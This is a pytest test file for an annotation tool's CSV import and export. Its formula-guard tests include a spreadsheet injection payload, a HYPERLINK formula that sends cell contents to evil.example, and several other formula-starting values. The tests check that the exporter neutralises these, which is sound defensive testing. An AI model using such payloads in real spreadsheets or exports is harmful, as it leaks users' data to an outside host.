"""annotator/formats/csv.py: documents from CSV rows, spans out as CSV rows (no database)."""

import csv
import io

import pytest

from annotator.formats import FormatError
from annotator.formats import csv as csv_format
from tests.unit.formats_data import (
    FLAG_UA,
    GRIN,
    UK,
    assert_golden,
    assert_golden_records,
    export_records,
    golden_bytes,
)


def problems_of(data):
    with pytest.raises(FormatError) as caught:
        csv_format.read(data)
    return [(problem.line, problem.message) for problem in caught.value.problems]


def export(records):
    return b"".join(csv_format.write(records))


def rows_of(data):
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


class TestRead:
    def test_golden_file_reads_as_expected(self):
        assert_golden_records("import.csv.records.json", csv_format.read(golden_bytes("import.csv")))

    def test_a_cell_with_crlf_line_breaks_is_one_document_with_lf(self):
        english, ukrainian, note = csv_format.read(golden_bytes("import.csv"))
        assert ukrainian["text"] == UK
        assert [record["line"] for record in (english, ukrainian, note)] == [2, 3, 4]

    def test_header_names_are_matched_whatever_their_case(self):
        english = csv_format.read(golden_bytes("import.csv"))[0]
        assert english["title"] == "Harbour council delays the ferry vote"
        assert english["metadata"] == {"section": "harbour"}
        assert english["published_at"] == "2024-03-05T09:30:00+01:00"

    def test_empty_cells_take_the_defaults(self):
        note = csv_format.read(golden_bytes("import.csv"))[2]
        assert note["text"] == 'A short note; Café ☕, "quoted"'
        assert (note["external_id"], note["published_at"], note["metadata"]) == ("", None, {})

    @pytest.mark.parametrize("delimiter", [";", "\t"])
    def test_semicolon_and_tab_separated_files_read_too(self, delimiter):
        data = f"title{delimiter}text\nOne{delimiter}Олена, said\n".encode()
        [record] = csv_format.read(data)
        assert (record["title"], record["text"]) == ("One", "Олена, said")

    def test_an_id_column_is_ignored(self):
        [record] = csv_format.read(b"id,text\n41,hello\n")
        assert record["text"] == "hello"

    def test_a_byte_order_mark_before_the_header_is_dropped(self):
        [record] = csv_format.read("\ufefftext,title\nhello,Héllo\n".encode())
        assert (record["text"], record["title"]) == ("hello", "Héllo")

    def test_a_long_article_fits_in_one_cell(self):
        text = "word " * 100_000
        [record] = csv_format.read(f'text\n"{text}"\n'.encode())
        assert record["text"] == text


class TestReadRefuses:
    def test_unknown_columns_and_a_missing_text_column_stop_at_the_header(self):
        assert problems_of(b"title,body,Autor\nOne,Two,Three\n") == [
            (1, "unknown column(s) 'body', 'autor'; the columns can be external_id, title, text, source, url, author, "
                "published_at, language, metadata"),
            (1, "the header has no text column"),
        ]

    def test_a_repeated_column_is_refused(self):
        assert problems_of(b"text,title,Text\na,b,c\n") == [(1, "column(s) 'text' appear more than once")]

    def test_every_row_problem_is_reported_with_its_spreadsheet_row(self):
        data = (
            b"external_id,text,metadata,published_at\r\n"
            b"a,fine,,\r\n"
            b'b,"two\nlines",{"x": 1},\r\n'
            b"c,,,\r\n"
            b"d,too,many,fields,here\r\n"
            b"a,dup,,\r\n"
            b"e,bad meta,{x},\r\n"
            b"f,bad date,,someday\r\n"
        )
        assert problems_of(data) == [
            (4, "text is missing or empty"),
            (5, "5 fields where the header has 4"),
            (6, "external_id 'a' repeats the one on row 2"),
            (7, "metadata is not valid JSON (unexpected character, expected a string key at column 2)"),
            (8, "published_at 'someday' is not an ISO 8601 date or date-time"),
        ]

    def test_problems_are_labelled_by_row(self):
        with pytest.raises(FormatError) as caught:
            csv_format.read(b"text\n\n\n")
        assert str(caught.value) == "The file holds no documents."
        with pytest.raises(FormatError) as caught:
            csv_format.read(b"text,title\n,x\n")
        assert str(caught.value) == "row 2: text is missing or empty"

    def test_non_utf8_bytes_name_their_line(self):
        assert problems_of(b"text\nok\ncaf\xe9\n") == [
            (3, "byte 0xe9 at column 4 is not UTF-8; save the file as UTF-8 and import again")
        ]

    def test_broken_quoting_is_reported(self):
        [(row, message)] = problems_of(b'text,title\n"ok",x\n"broken"quote,y\n')
        assert row == 3
        assert message.startswith("not valid CSV")

    def test_an_empty_file_needs_a_header(self):
        assert problems_of(b"") == [
            (None, "The file is empty; it needs a header row naming the columns, text among them.")
        ]


class TestWrite:
    def test_golden_export(self):
        assert_golden("export.csv", export(export_records()))

    def test_one_row_per_span_with_the_spec_columns(self):
        rows = rows_of(export(export_records()))
        assert list(rows[0]) == [
            "document_id", "external_id", "title", "source", "annotator", "label", "start", "end", "text",
            "review_status", "note", "codebook_version",
        ]  # fmt: skip
        assert len(rows) == sum(len(record["spans"]) for record in export_records())
        assert (rows[0]["title"], rows[0]["source"]) == ("Harbour council delays the ferry vote", "The Quayside Ledger")

    def test_the_file_starts_with_a_byte_order_mark_so_spreadsheets_read_utf8(self):
        data = export(export_records())
        assert data.startswith(b"\xef\xbb\xbfdocument_id,")
        assert data.count(b"\xef\xbb\xbf") == 1

    def test_cells_slice_the_document_text_exactly(self):
        by_id = {str(record["id"]): record["text"] for record in export_records()}
        for row in rows_of(export(export_records())):
            assert by_id[row["document_id"]][int(row["start"]) : int(row["end"])] == row["text"]

    def test_the_gold_layer_has_an_empty_annotator_and_notes_keep_their_line_breaks(self):
        rows = rows_of(export(export_records()))
        assert rows[5]["note"] == "line one\nline two"
        assert rows[7]["annotator"] == "" and rows[7]["label"] == "Diplomatic claim"

    def test_no_records_is_the_header_alone(self):
        assert export([]) == (
            b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,label,start,end,text,review_status,note,"
            b"codebook_version\r\n"
        )


def relations_of(records):
    return rows_of(b"".join(csv_format.write(records, table="relations")))


class TestWriteRelations:
    def test_golden_export(self):
        assert_golden("export-relations.csv", b"".join(csv_format.write(export_records(), table="relations")))

    def test_one_row_per_relation_with_both_ends_ids_labels_offsets_and_texts(self):
        rows = relations_of(export_records())
        assert list(rows[0]) == [
            "document_id", "external_id", "title", "source", "annotator", "type",
            "from_id", "from_label", "from_start", "from_end", "from_text",
            "to_id", "to_label", "to_start", "to_end", "to_text", "review_status", "note", "codebook_version",
        ]  # fmt: skip
        assert [
            (row["document_id"], row["annotator"], row["type"], row["from_id"], row["from_text"], row["to_id"],
             row["to_text"], row["review_status"])
            for row in rows
        ] == [
            ("7", "alice", "Located at", "101", f"said Olena Petrenko {FLAG_UA}", "102", "Olena Petrenko", "accepted"),
            ("7", "bob", "Says", "105", "a spokesperson told reporters", "103",
             '"We were handed forty pages on Friday,"', "pending"),
            ("8", "alice", "Says", "201", "Олена Петренко", "202", f"«Нам дали сорок сторінок у п'ятницю» {GRIN}",
             "pending"),
        ]  # fmt: skip

    def test_each_ends_offsets_slice_the_document_text(self):
        by_id = {str(record["id"]): record["text"] for record in export_records()}
        for row in relations_of(export_records()):
            text = by_id[row["document_id"]]
            for end in ("from", "to"):
                assert text[int(row[f"{end}_start"]) : int(row[f"{end}_end"])] == row[f"{end}_text"]

    def test_a_note_that_would_run_as_a_formula_is_guarded_and_line_breaks_stay(self):
        rows = relations_of(export_records())
        assert rows[1]["note"] == "'=the quote it frames"
        assert rows[2]["note"] == "line one\nline two"

    def test_the_file_starts_with_a_byte_order_mark_and_no_relations_is_the_header_alone(self):
        data = b"".join(csv_format.write([], table="relations"))
        assert data.startswith(b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,type,from_id,")
        assert data.count(b"\r\n") == 1


def answers_of(records):
    return rows_of(b"".join(csv_format.write(records, table="answers")))


class TestWriteAnswers:
    def test_one_row_per_answer_a_multi_value_joined_with_a_bar(self):
        rows = answers_of(export_records())
        assert list(rows[0]) == [
            "document_id", "external_id", "title", "source", "annotator", "question", "value", "review_status",
            "codebook_version",
        ]  # fmt: skip
        assert [(row["document_id"], row["annotator"], row["question"], row["value"], row["review_status"])
                for row in rows] == [
            ("7", "alice", "Primary frame", "Political", "accepted"),
            ("7", "alice", "Slant", "-1", "pending"),
            ("7", "bob", "Frames", "Economic|Political", "rejected"),
            ("7", "bob", "Slant", "2", "pending"),
            ("8", "alice", "Primary frame", "Legality", "pending"),
            ("8", "", "Primary frame", "Economic", ""),
        ]  # fmt: skip

    def test_an_option_that_would_run_as_a_formula_is_guarded(self):
        record = {"id": 3, "text": "abc", "answers": [{"question": "=Q", "value": ["=1+1", "b"], "annotator": "@a"}]}
        [row] = answers_of([record])
        assert (row["question"], row["value"], row["annotator"]) == ("'=Q", "'=1+1|b", "'@a")

    def test_no_answers_is_the_header_alone(self):
        data = b"".join(csv_format.write([{"id": 1, "text": "abc"}], table="answers"))
        assert data == (
            "\ufeffdocument_id,external_id,title,source,annotator,question,value,review_status,codebook_version\r\n"
        ).encode()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def guarded_record(value):
    """A record in which every text cell of the one span's row is `value` (the span's text too)."""
    text = f"{value} rest"
    return {
        "id": 3, "external_id": value, "title": value, "source": value, "text": text,
        "spans": [{"start": 0, "end": len(value), "label": value, "annotator": value, "note": value,
                   "review_status": "pending"}],
    }  # fmt: skip


class TestFormulaGuard:
    TEXT_COLUMNS = ("external_id", "title", "source", "annotator", "label", "text", "note")

    @pytest.mark.parametrize("value", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"], ids=repr)
    def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(self, value):
        [row] = rows_of(export([guarded_record(value)]))
        assert {name: row[name] for name in self.TEXT_COLUMNS} == dict.fromkeys(self.TEXT_COLUMNS, f"'{value}")
        assert (row["document_id"], row["start"], row["review_status"]) == ("3", "0", "pending")

    @pytest.mark.parametrize("value", ["Peskov", " =1+1", "1-2", "a=b", "'quoted", "«=»"], ids=repr)
    def test_other_cells_go_out_as_they_are(self, value):
        [row] = rows_of(export([guarded_record(value)]))
        assert {name: row[name] for name in self.TEXT_COLUMNS} == dict.fromkeys(self.TEXT_COLUMNS, value)
